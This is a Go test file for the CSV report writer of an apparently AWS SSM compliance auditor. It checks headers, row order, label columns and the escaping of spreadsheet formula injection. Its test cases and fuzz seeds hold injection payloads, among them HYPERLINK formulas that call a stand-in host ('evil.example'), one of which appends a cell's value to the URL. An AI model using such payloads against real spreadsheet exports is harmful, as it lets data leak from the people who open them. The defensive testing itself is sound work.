package report_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/auditor-dev/auditor/audit"
	"github.com/auditor-dev/auditor/report"
)

var csvFiles = []string{report.AssociationsCSV, report.InstancesCSV, report.ErrorCodesCSV}

// renderCSV renders results as CSV only and returns the directory, checking
// that exactly the three files were written.
func renderCSV(t *testing.T, results []audit.Result, run audit.RunInfo) string {
	t.Helper()
	opts := report.Options{Dir: t.TempDir(), Records: openRecord(t, results), Run: run, Formats: []report.Format{report.FormatCSV}, StaleAfter: audit.DefaultStaleAfter}
	paths, err := report.Render(context.Background(), opts)
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for _, name := range csvFiles {
		want = append(want, filepath.Join(opts.Dir, name))
	}
	slices.Sort(want)
	if !slices.Equal(paths, want) {
		t.Fatalf("paths %q, want %q", paths, want)
	}
	return opts.Dir
}

// readCSV reads a whole CSV file with encoding/csv.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := csv.NewReader(f)
	r.FieldsPerRecord = 0 // every row as long as the header
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return recs
}

func firstLine(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	line, err := bufio.NewReader(f).ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	return line
}

func TestCSVHeaders(t *testing.T) {
	fx := fixtureNamed(t, "mixed")
	dir := renderCSV(t, fx.results, fx.run)
	tests := []struct {
		file string
		want string
	}{
		{report.AssociationsCSV, "account_id,region,instance_id,association_id,association_name,association_version,name,document_version,status,detailed_status,execution_date,error_code,execution_summary,output_url,stale,partial\n"},
		{report.InstancesCSV, "account_id,region,instance_id,outcome,associations,success,failed,pending,other,stale,error_codes,partial,error_code,error_message,detail,ping_status,agent_version,cost-center,env,owner\n"},
		{report.ErrorCodesCSV, "failure,error_code,associations,instances,association_names,example_instance_ids\n"},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			if got := firstLine(t, filepath.Join(dir, tt.file)); got != tt.want {
				t.Errorf("header\n got %q\nwant %q", got, tt.want)
			}
		})
	}

	// The empty fleet still gets its headers, and nothing else.
	fx = fixtureNamed(t, "empty")
	dir = renderCSV(t, fx.results, fx.run)
	for _, name := range csvFiles {
		if recs := readCSV(t, filepath.Join(dir, name)); len(recs) != 1 {
			t.Errorf("empty fleet: %s has %d records, want the header only", name, len(recs))
		}
	}
}

// TestCSVGolden compares the CSV files of the mixed fixture with
// testdata/csv-mixed-*.golden.csv (go test ./report -update rewrites them).
func TestCSVGolden(t *testing.T) {
	fx := fixtureNamed(t, "mixed")
	dir := renderCSV(t, fx.results, fx.run)
	for _, name := range csvFiles {
		t.Run(name, func(t *testing.T) {
			got, err := os.ReadFile(filepath.Join(dir, name))
			if err != nil {
				t.Fatal(err)
			}
			checkGolden(t, "csv-mixed-"+strings.TrimSuffix(name, ".csv")+".golden.csv", got)
		})
	}
}

// TestCSVRows checks row counts and order against the fixtures themselves.
func TestCSVRows(t *testing.T) {
	for _, fx := range fixtures(t) {
		t.Run(fx.name, func(t *testing.T) {
			dir := renderCSV(t, fx.results, fx.run)
			assocs := readCSV(t, filepath.Join(dir, report.AssociationsCSV))[1:]
			n := 0
			for _, r := range fx.results {
				n += len(r.Associations)
			}
			if len(assocs) != n {
				t.Errorf("associations.csv has %d rows, want %d", len(assocs), n)
			}
			// Sorted by account, region, instance, association ID (as
			// written, before neutralising, which the hostile fixture
			// alters; compare the mixed fixture strictly).
			if fx.name != "hostile" && !slices.IsSortedFunc(assocs, func(a, b []string) int { return slices.Compare(a[:4], b[:4]) }) {
				t.Errorf("associations.csv rows are not sorted")
			}
			insts := readCSV(t, filepath.Join(dir, report.InstancesCSV))[1:]
			if len(insts) != len(fx.results) {
				t.Errorf("instances.csv has %d rows, want %d", len(insts), len(fx.results))
			}
			if fx.name != "hostile" && !slices.IsSortedFunc(insts, func(a, b []string) int { return slices.Compare(a[:3], b[:3]) }) {
				t.Errorf("instances.csv rows are not sorted")
			}
		})
	}
}

// plainNumber is the test's own statement of a number left alone.
var plainNumber = regexp.MustCompile(`^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$`)

// neutralised is what a text cell must become: one added quote before a
// dangerous first character, unless the whole value is a plain number, and
// before a quote of its own.
// encoding/csv reads a quoted "\r\n" back as "\n", so that is undone too.
func neutralised(s string) string {
	s = strings.ReplaceAll(s, "\r\n", "\n")
	if s != "" && (s[0] == '\'' || startsUnsafe(s) && !plainNumber.MatchString(s)) {
		return "'" + s
	}
	return s
}

func checkRows(t *testing.T, file string, got, want [][]string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: %d records, want %d", file, len(got), len(want))
	}
	for i := range want {
		for j := range want[i] {
			if j >= len(got[i]) || got[i][j] != neutralised(want[i][j]) {
				t.Errorf("%s record %d field %d:\n got %q\nwant %q", file, i, j, got[i][j], neutralised(want[i][j]))
			}
		}
	}
}

// sortedResults returns results in the order of the record: by key.
func sortedResults(results []audit.Result) []audit.Result {
	out := slices.Clone(results)
	slices.SortFunc(out, func(a, b audit.Result) int {
		return slices.Compare(
			[]string{a.AccountID, a.Region, a.InstanceID},
			[]string{b.AccountID, b.Region, b.InstanceID})
	})
	return out
}

// TestCSVHostile reads the CSV files of the hostile fixture back with
// encoding/csv and compares every cell with the fixture's value, neutralised
// by the test's own rule: nothing else may change.
func TestCSVHostile(t *testing.T) {
	fx := fixtureNamed(t, "hostile")
	dir := renderCSV(t, fx.results, fx.run)

	var want [][]string
	for _, r := range sortedResults(fx.results) {
		as := slices.Clone(r.Associations)
		slices.SortFunc(as, func(a, b audit.Association) int { return strings.Compare(a.AssociationID, b.AssociationID) })
		for _, a := range as {
			want = append(want, []string{
				r.AccountID, r.Region, r.InstanceID, a.AssociationID, a.AssociationName,
				a.AssociationVersion, a.Name, a.DocumentVersion, a.Status, a.DetailedStatus,
				a.ExecutionDate.UTC().Format("2006-01-02T15:04:05.000Z07:00"), a.ErrorCode, a.ExecutionSummary, a.URL(),
				fmt.Sprint(a.ExecutionDate.Before(runStart.Add(-7 * 24 * time.Hour))), fmt.Sprint(r.Outcome == audit.OutcomeError),
			})
		}
	}
	got := readCSV(t, filepath.Join(dir, report.AssociationsCSV))
	checkRows(t, report.AssociationsCSV, got[1:], want)

	keys := map[string]bool{}
	for _, r := range fx.results {
		for k := range r.Labels {
			keys[k] = true
		}
	}
	labelKeys := slices.Sorted(func(yield func(string) bool) {
		for k := range keys {
			if !yield(k) {
				return
			}
		}
	})
	header := append([]string{"account_id", "region", "instance_id", "outcome", "associations", "success", "failed", "pending", "other",
		"stale", "error_codes", "partial", "error_code", "error_message", "detail", "ping_status", "agent_version"}, labelKeys...)
	want = [][]string{header}
	for _, r := range sortedResults(fx.results) {
		var failed, other, stale int
		var codes []string
		for _, a := range r.Associations {
			if a.Status == audit.StatusFailed {
				failed++
				codes = append(codes, a.ErrorCode) // every hostile failure has a code
			} else {
				other++ // the hostile fixture's other Status is never Success or Pending
			}
			if a.ExecutionDate.Before(runStart.Add(-7 * 24 * time.Hour)) {
				stale++
			}
		}
		var code, msg string
		if r.Error != nil {
			code, msg = r.Error.Code, r.Error.Message
		}
		row := []string{r.AccountID, r.Region, r.InstanceID, string(r.Outcome),
			fmt.Sprint(len(r.Associations)), "0", fmt.Sprint(failed), "0", fmt.Sprint(other),
			fmt.Sprint(stale), strings.Join(codes, "; "), fmt.Sprint(r.Outcome == audit.OutcomeError), code, msg,
			r.Detail, "", ""}
		for _, k := range labelKeys {
			row = append(row, r.Labels[k])
		}
		want = append(want, row)
	}
	checkRows(t, report.InstancesCSV, readCSV(t, filepath.Join(dir, report.InstancesCSV)), want)

	// error_codes.csv: one row per hostile code, with the code (as name
	// and code) and the association name (all h) intact.
	codes := readCSV(t, filepath.Join(dir, report.ErrorCodesCSV))[1:]
	if len(codes) != len(hostileValues()) {
		t.Fatalf("error_codes.csv has %d rows, want %d", len(codes), len(hostileValues()))
	}
	byCode := map[string][]string{}
	for _, row := range codes {
		byCode[row[1]] = row
	}
	for _, h := range hostileValues() {
		row, ok := byCode[neutralised(h)]
		if !ok {
			t.Errorf("error_codes.csv: no row for code %q", neutralised(h))
			continue
		}
		if row[0] != neutralised(h) || row[2] != "1" || row[3] != "1" || row[4] != neutralised(h) {
			t.Errorf("error_codes.csv row %q, want name %q, 1 association, 1 instance, association %q", row, neutralised(h), neutralised(h))
		}
	}
}

func TestCSVSafe(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+SUM(A1)", "'+SUM(A1)"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		// Calc drops a leading NUL and other control characters and then
		// reads what follows as a formula: a value that starts with any of
		// them gets the quote.
		{"\x00=HYPERLINK(\"http://evil.example\",\"x\")", "'\x00=HYPERLINK(\"http://evil.example\",\"x\")"},
		{"\x00\x00+1", "'\x00\x00+1"},
		{"\x00plain", "'\x00plain"},
		{"\x01=1", "'\x01=1"},
		{"\x1f@x", "'\x1f@x"},
		{"\x7f=1", "'\x7f=1"},
		{"\x00-1", "'\x00-1"},
		{"\n=1", "'\n=1"},
		{"a\x00=1", "a\x00=1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-1", "-1"},
		{"+3.5", "+3.5"},
		{"-0.25", "-0.25"},
		{"-.5", "-.5"},
		{"-1e5", "-1e5"},
		{"+2E-3", "+2E-3"},
		{"-1.", "-1."},
		{"-1e", "'-1e"},
		{"-1-1", "'-1-1"},
		{"-1 ", "'-1 "},
		{"- 1", "'- 1"},
		{"-Inf", "'-Inf"},
		{"-0x10", "'-0x10"},
		{"-١", "'-١"}, // Arabic-Indic digit: not an ASCII number
		{"1-1", "1-1"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"'=1", "''=1"}, // a quote of its own is kept: one leading quote comes off
		{"'-1", "''-1"},
		{"'", "''"},
		{"x'", "x'"},
		{"＝1", "＝1"}, // fullwidth equals sign: not a formula
		{"😀=1", "😀=1"},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprintf("%q", tt.in), func(t *testing.T) {
			if got := report.CSVSafe(tt.in); got != tt.want {
				t.Errorf("CSVSafe(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// startsUnsafe reports whether s begins with a character that CSVSafe quotes
// unless s is a plain number: a formula character or an ASCII control
// character, which LibreOffice Calc drops before reading a formula.
func startsUnsafe(s string) bool {
	return s != "" && (strings.IndexByte("=+-@", s[0]) >= 0 || s[0] < 0x20 || s[0] == 0x7f)
}

// FuzzCSVSafe checks the invariants of CSVSafe: the result never starts with
// a dangerous character unless it is a plain number, it is either the input
// or the input after one added quote, and one leading quote taken off gives
// the input back. The seed corpus is in
// testdata/fuzz/FuzzCSVSafe.
func FuzzCSVSafe(f *testing.F) {
	for _, h := range hostileValues() {
		f.Add(h)
	}
	f.Add("\x00=HYPERLINK(\"http://evil.example\",\"x\")")
	f.Fuzz(func(t *testing.T, in string) {
		got := report.CSVSafe(in)
		if startsUnsafe(got) && !plainNumber.MatchString(got) {
			t.Errorf("CSVSafe(%q) = %q starts with a formula character", in, got)
		}
		if got != in && got != "'"+in {
			t.Errorf("CSVSafe(%q) = %q: not the input, nor the input after one quote", in, got)
		}
		if got == in && startsUnsafe(in) && !plainNumber.MatchString(in) {
			t.Errorf("CSVSafe(%q) left a formula unchanged", in)
		}
		if plainNumber.MatchString(in) && got != in {
			t.Errorf("CSVSafe(%q) = %q changed a plain number", in, got)
		}
		// A reader gets the value back by taking off one leading quote,
		// where there is one: two values never read alike.
		if back, _ := strings.CutPrefix(got, "'"); back != in {
			t.Errorf("CSVSafe(%q) = %q: one leading quote off gives %q", in, got, back)
		}
	})
}

// TestCSVLabelColumns checks that a label key equal to a fixed column gets a
// prefixed column of its own, and that label cells are neutralised.
func TestCSVLabelColumns(t *testing.T) {
	results := []audit.Result{{
		AccountID: acct1, Region: east, InstanceID: "i-00000000000000001", Outcome: audit.OutcomeNoAssociations,
		Labels: map[string]string{"outcome": "mine", "label_outcome": "taken", "=key": "=value", "owner": "-1"},
	}}
	dir := renderCSV(t, results, fixtureRun())
	recs := readCSV(t, filepath.Join(dir, report.InstancesCSV))
	got := map[string]string{}
	fixed := 17 // the columns before the labels
	for i, h := range recs[0][fixed:] {
		got[h] = recs[1][fixed+i]
	}
	want := map[string]string{"'=key": "'=value", "label_label_outcome": "mine", "label_outcome": "taken", "owner": "-1"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("label columns %q, want %q", got, want)
	}
	if recs[1][3] != "no_associations" {
		t.Errorf("the outcome column holds %q: a label overwrote it", recs[1][3])
	}
}

// TestCSVErrorCodeNamesCapped checks that a capped list of association names
// says how many were left out.
func TestCSVErrorCodeNamesCapped(t *testing.T) {
	const n = report.MaxAssociationNames + 5
	r := audit.Result{AccountID: acct1, Region: east, InstanceID: "i-00000000000000001", Outcome: audit.OutcomeNoncompliant}
	for i := range n {
		r.Associations = append(r.Associations, audit.Association{
			AssociationID: fmt.Sprintf("a-%03d", i), AssociationName: fmt.Sprintf("n-%03d", i), Status: audit.StatusFailed, ErrorCode: "E",
		})
	}
	dir := renderCSV(t, []audit.Result{r}, fixtureRun())
	recs := readCSV(t, filepath.Join(dir, report.ErrorCodesCSV))
	if len(recs) != 2 {
		t.Fatalf("%d records, want header and one row", len(recs))
	}
	names := strings.Split(recs[1][4], "; ")
	if len(names) != report.MaxAssociationNames+1 || names[0] != "n-000" || names[len(names)-1] != "(5 more)" {
		t.Errorf("association_names has %d parts, first %q, last %q; want %d names then (5 more)",
			len(names), names[0], names[len(names)-1], report.MaxAssociationNames)
	}
	if recs[1][2] != fmt.Sprint(n) || recs[1][5] != "i-00000000000000001" {
		t.Errorf("row %q, want %d associations and the one example", recs[1][:3], n)
	}
}

// TestChangesCSVHeaderNeutralised checks that the label columns of
// changes.csv, the inventory's own column names, are neutralised in the
// header as they are in instances.csv: a spreadsheet must not run a label
// key as a formula.
func TestChangesCSVHeaderNeutralised(t *testing.T) {
	labels := map[string]string{`=HYPERLINK("http://evil.example/"&A2,"x")`: "a", "-2+3": "b", "@SUM(1)": "c", "owner": "-1"}
	dir := renderChangesOf(t, labels)
	recs := readCSV(t, filepath.Join(dir, report.ChangesCSV))
	fixed := 12 // the columns before the labels
	got := recs[0][fixed:]
	want := []string{`'-2+3`, `'=HYPERLINK("http://evil.example/"&A2,"x")`, `'@SUM(1)`, "owner"}
	if !slices.Equal(got, want) {
		t.Errorf("changes.csv label columns %q, want %q", got, want)
	}
	// The same keys, as instances.csv names them.
	inst := readCSV(t, filepath.Join(dir, report.InstancesCSV))[0][17:]
	if !slices.Equal(inst, want) {
		t.Errorf("instances.csv label columns %q, want %q, as in changes.csv", inst, want)
	}
	if rows := recs[1:]; len(rows) != 1 || rows[0][0] != string(audit.NewFailure) || !slices.Equal(rows[0][fixed:], []string{"b", "a", "c", "-1"}) {
		t.Errorf("changes.csv rows %q, want one new_failure with the labels b, a, c, -1", rows)
	}
}

// TestLabelColumnsNeverClash: a label named as a column of instances.csv
// or changes.csv (document, change, outcome) gets a column of its own,
// named alike in both files, instead of a second column of that name.
func TestLabelColumnsNeverClash(t *testing.T) {
	dir := renderChangesOf(t, map[string]string{"document": "d", "change": "c", "outcome": "o", "team": "t"})
	var labelCols [][]string
	for _, f := range []struct {
		name  string
		fixed int
	}{{report.ChangesCSV, 12}, {report.InstancesCSV, 17}} {
		header := readCSV(t, filepath.Join(dir, f.name))[0]
		seen := map[string]bool{}
		for _, h := range header {
			if seen[h] {
				t.Errorf("%s has two columns named %q: %q", f.name, h, header)
			}
			seen[h] = true
		}
		labelCols = append(labelCols, header[f.fixed:])
	}
	if !slices.Equal(labelCols[0], labelCols[1]) {
		t.Errorf("label columns differ: changes.csv %q, instances.csv %q", labelCols[0], labelCols[1])
	}
}

// renderChangesOf renders the CSVs (or formats, when given) of one
// instance with labels whose association failed since a baseline where it
// succeeded, and returns their directory.
func renderChangesOf(t *testing.T, labels map[string]string, formats ...report.Format) string {
	t.Helper()
	at := time.Date(2026, 11, 30, 3, 0, 0, 0, time.UTC)
	result := func(status string, when time.Time) audit.Result {
		d := when.Add(-time.Hour)
		return audit.Result{
			Region: east, InstanceID: "i-0000000000000000a", Labels: labels, Outcome: audit.Judge([]audit.Association{{Status: status}}),
			AuditedAt: when, Associations: []audit.Association{{AssociationID: "a-1", Name: "AWS-RunPatchBaseline", Status: status, ExecutionDate: &d}},
		}
	}
	basePath := filepath.Join(t.TempDir(), audit.ResultsFile)
	w, err := audit.CreateRecord(basePath)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(result(audit.StatusSuccess, at.Add(-24*time.Hour))); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	base, err := audit.OpenBaseline(basePath)
	if err != nil {
		t.Fatal(err)
	}
	defer base.Close()
	opts := report.Options{
		Dir: t.TempDir(), Records: openRecord(t, []audit.Result{result(audit.StatusFailed, at)}), Baseline: base,
		Run: audit.RunInfo{StartedAt: at, Complete: true}, Formats: formats, StaleAfter: audit.DefaultStaleAfter,
	}
	if len(formats) == 0 {
		opts.Formats = []report.Format{report.FormatCSV}
	}
	if _, err := report.Render(context.Background(), opts); err != nil {
		t.Fatal(err)
	}
	return opts.Dir
}
